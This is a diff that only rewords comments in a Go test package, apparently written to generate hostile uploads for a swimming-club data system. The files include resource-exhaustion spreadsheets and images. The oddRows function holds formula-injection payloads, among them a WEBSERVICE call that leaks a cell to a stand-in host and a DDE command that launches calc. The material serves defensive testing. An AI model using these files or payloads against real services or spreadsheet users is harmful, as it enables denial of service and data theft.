@@ -1,4 +1,5 @@
-// Package hostile makes files that cost far more than their size: those that are refused, and the costliest of those that are taken.
+// Package hostile creates files that cost far more than their size: files that are refused, and the most expensive
+// valid ones.
 package hostile
 
 import (
@@ -12,15 +13,15 @@ import (
 	"strings"
 )
 
-// File is one of them, with the kind of upload it pretends to be.
+// File is a hostile file and the kind of upload it claims to be.
 type File struct {
 	Name    string
 	Mode    string // modalita of the upload
 	Content []byte
-	Save    bool // not only tried
+	Save    bool // save it, not only a dry run
 }
 
-// The kinds of upload.
+// Kinds of upload.
 const (
 	sheet     = "atleti"
 	logo      = "logo"
@@ -31,7 +32,7 @@ const (
 	results   = "risultati"
 )
 
-// columnsOf are the first rows of their sheets.
+// columnsOf are the headings of each kind.
 var columnsOf = map[string][]string{
 	sheet:     strings.Split("COD_AFF;COGNOME;NOME;SESSO;DATA_NASCITA;CODICE_FISCALE;NAZIONALITA;TESSERA;TIPO_TESSERAMENTO;QUALIFICA;EMAIL;TELEFONO;CATEGORIA_DIS", ";"),
 	records:   strings.Split("CIRCUITO;GARA;CATEGORIA;SESSO;VASCA;TEMPO;ATLETA;SOCIETA;LUOGO;DATA;DESCRIZIONE;DIS", ";"),
@@ -41,8 +42,9 @@ var columnsOf = map[string][]string{
 	results:   strings.Split("TESSERA;COGNOME;NOME;ANNO;SESSO;COD_SOC;GARA;VASCA;DATA;LUOGO;TEMPO;STATO", ";"),
 }
 
-// Files makes all that a deployment takes, about twenty megabytes of memory each at a time. card is that of an athlete of the club that times
-// and entries are uploaded for; regional adds the files of results, which one body alone exchanges.
+// Files returns functions that create the files for a deployment, about twenty megabytes each. card is that of an
+// athlete of the club for which times and entries are uploaded; regional selects the files of results, which only one
+// body exchanges.
 func Files(card string, regional bool) []func() File {
 	out := athleteFiles()
 	kinds := []string{records, times, entries, baseTimes}
@@ -58,12 +60,12 @@ func Files(card string, regional bool) []func() File {
 	return append(out, longFiles(card)...)
 }
 
-// of is a file that is made when it is its turn.
+// of returns a function that creates a file on demand.
 func of(name, mode string, content func() []byte) func() File {
 	return func() File { return File{Name: name, Mode: mode, Content: content()} }
 }
 
-// sheetFiles are what any kind of sheet may be sent instead of itself.
+// sheetFiles returns hostile files for a kind of sheet.
 func sheetFiles(kind string) []func() File {
 	columns := columnsOf[kind]
 	wide := strings.Join(columns, ";") + strings.Repeat(";", 480)
@@ -82,7 +84,7 @@ func sheetFiles(kind string) []func() File {
 	}
 }
 
-// longFiles are the costliest that are taken: fifty thousand good rows.
+// longFiles returns the most expensive valid files: fifty thousand good rows.
 func longFiles(card string) []func() File {
 	clock := func(i int) string { return fmt.Sprintf("%d:%02d.%02d", 20+i/6000%10, i/100%60, i%100) }
 	return []func() File{
@@ -98,7 +100,7 @@ func longFiles(card string) []func() File {
 	}
 }
 
-// long is a file of good rows that are saved.
+// long returns a function that creates a file of good rows to save.
 func long(kind string, row func(i int) string) func() File {
 	return func() File {
 		var b bytes.Buffer
@@ -110,7 +112,7 @@ func long(kind string, row func(i int) string) func() File {
 	}
 }
 
-// Crowd is a club of girls of one year, all of whom may enter the same races.
+// Crowd returns a file of athletes of one club who may all enter the same races.
 func Crowd(athletes int, club string) File {
 	var b bytes.Buffer
 	b.WriteString("COD_AFF;COGNOME;NOME;SESSO;DATA_NASCITA;TESSERA;TIPO_TESSERAMENTO;QUALIFICA;DATA_SCADENZA_TESSERAMENTO\n")
@@ -120,7 +122,7 @@ func Crowd(athletes int, club string) File {
 	return File{Name: "a crowd", Mode: sheet, Content: b.Bytes(), Save: true}
 }
 
-// letters writes a number as letters: a surname has no digits.
+// letters writes a number as letters, because a surname has no digits.
 func letters(n int) string {
 	text := ""
 	for n++; n > 0; n /= 26 {
@@ -129,8 +131,8 @@ func letters(n int) string {
 	return text
 }
 
-// CrowdFiles enter the crowd in its races, fifty thousand times, and where files of results are exchanged give each entry one. The same entries
-// once more, with other times, cost most of all.
+// CrowdFiles enters the crowd in its races, fifty thousand rows per file, and adds results if regional. Repeating the
+// rows with other times is the most expensive.
 func CrowdFiles(athletes int, races []string, regional bool) []func() File {
 	clock := func(i, more int) string { return fmt.Sprintf("%d:%02d.%02d", 20+more, i/100%60, i%100) }
 	entry := func(more int) func(i int) string {
@@ -149,7 +151,7 @@ func CrowdFiles(athletes int, races []string, regional bool) []func() File {
 	return []func() File{long(entries, entry(0)), long(entries, entry(1))}
 }
 
-// athleteFiles are those of athletes and of pictures.
+// athleteFiles returns the hostile files of athletes and pictures.
 func athleteFiles() []func() File {
 	columns := columnsOf[sheet]
 	return []func() File{
@@ -157,7 +159,7 @@ func athleteFiles() []func() File {
 		of("a shared text of 64 bytes in four million cells", sheet, func() []byte { return workbook(columns, sharedText(64), sharedCells(500, 8000)) }),
 		of("a million shared texts", sheet, func() []byte { return workbook(columns, manyTexts(990_000), sharedCells(14, 40_000)) }),
 		of("rows of 32 kB", sheet, func() []byte { return workbook(columns, sharedText(1), longRows(columns, 2800)) }),
-		of("a part of 90 MB that nobody reads", sheet, func() []byte {
+		of("an unused part of 90 MB", sheet, func() []byte {
 			return workbook(columns, sharedText(1), sharedCells(1, 1), part{"xl/media/x.bin", zeros(23 << 20)})
 		}),
 		of("20 MB of separators", sheet, func() []byte { return bytes.Repeat([]byte(";"), 20<<20-1) }),
@@ -178,7 +180,7 @@ type part struct {
 	write func(io.Writer)
 }
 
-// workbook packs the texts and the sheet with what makes them a workbook.
+// workbook packs shared texts and a sheet into a workbook.
 func workbook(columns []string, texts, rows func(io.Writer), more ...part) []byte {
 	const head = `<?xml version="1.0" encoding="UTF-8"?>`
 	fixed := func(text string) func(io.Writer) { return func(w io.Writer) { put(w, head+text) } }
@@ -197,7 +199,7 @@ func workbook(columns []string, texts, rows func(io.Writer), more ...part) []byt
 	}, more...) {
 		w, err := z.Create(p.name)
 		if err != nil {
-			panic(err) // nothing written to memory fails
+			panic(err) // writing to memory cannot fail
 		}
 		p.write(w)
 	}
@@ -207,7 +209,7 @@ func workbook(columns []string, texts, rows func(io.Writer), more ...part) []byt
 	return out.Bytes()
 }
 
-// header is the first row of a sheet.
+// header returns the first row of a sheet.
 func header(columns []string) string {
 	row := "<row>"
 	for _, c := range columns {
@@ -244,7 +246,7 @@ func longRows(columns []string, rows int) func(io.Writer) {
 	}
 }
 
-// oddRows are cells that a spreadsheet would compute, and texts that no database or page should meet.
+// oddRows writes formulas, control characters and other unusual cells.
 func oddRows(columns []string, rows int) func(io.Writer) {
 	odd := []string{
 		`<c><f>WEBSERVICE("http://posta.example/"&amp;A1)</f><v>1</v></c>`, `<c t="str"><v>=cmd|' /C calc'!A1</v></c>`, `<c t="str"><v>a_x0000_b_x000A_c</v></c>`, `<c t="str"><v>L'altro &#x1F3CA; &#x202E;</v></c>`,
@@ -261,7 +263,7 @@ func oddRows(columns []string, rows int) func(io.Writer) {
 	}
 }
 
-// wrongRows is a file in which no cell can be taken.
+// wrongRows returns a file in which every cell is invalid.
 func wrongRows(columns []string) []byte {
 	var out bytes.Buffer
 	out.WriteString(strings.Join(columns, ";") + "\n")
@@ -276,7 +278,7 @@ func wrongRows(columns []string) []byte {
 
 func zeros(n int) func(io.Writer) { return func(w io.Writer) { repeat(w, "\x00", n) } }
 
-// picture is a square PNG of one colour.
+// picture returns a square PNG of one colour.
 func picture(side uint32, bits, colour, interlace byte) []byte {
 	var out bytes.Buffer
 	out.WriteString("\x89PNG\r\n\x1a\n")
@@ -291,7 +293,7 @@ func picture(side uint32, bits, colour, interlace byte) []byte {
 	channels := map[byte]int{0: 1, 6: 4}[colour]
 	size := (int(side)*channels*int(bits)/8 + 1) * int(side)
 	if interlace != 0 {
-		size += 16 * int(side) // a byte more for each line of each pass
+		size += 16 * int(side) // one more byte per line and pass
 	}
 	var data bytes.Buffer
 	z := zlib.NewWriter(&data)
@@ -302,7 +304,7 @@ func picture(side uint32, bits, colour, interlace byte) []byte {
 	return out.Bytes()
 }
 
-// layers is a progressive JPEG that is sent in many scans, each of which has all its pixels.
+// layers returns a progressive JPEG with many scans of the whole picture.
 func layers(side uint16, scans int) []byte {
 	out := []byte{0xFF, 0xD8, 0xFF, 0xC2, 0, 17, 8}
 	out = binary.BigEndian.AppendUint16(binary.BigEndian.AppendUint16(out, side), side)
@@ -314,7 +316,7 @@ func layers(side uint16, scans int) []byte {
 	return append(out, 0xFF, 0xD9)
 }
 
-// repeat writes a text many times, not byte by byte.
+// repeat writes a text many times, in large blocks.
 func repeat(w io.Writer, text string, times int) {
 	many := max(1, min(times, 1<<16/len(text)))
 	block := []byte(strings.Repeat(text, many))
@@ -328,6 +330,6 @@ func put(w io.Writer, text string) { write(w, []byte(text)) }
 
 func write(w io.Writer, b []byte) {
 	if _, err := w.Write(b); err != nil {
-		panic(err) // nothing written to memory fails
+		panic(err) // writing to memory cannot fail
 	}
 }
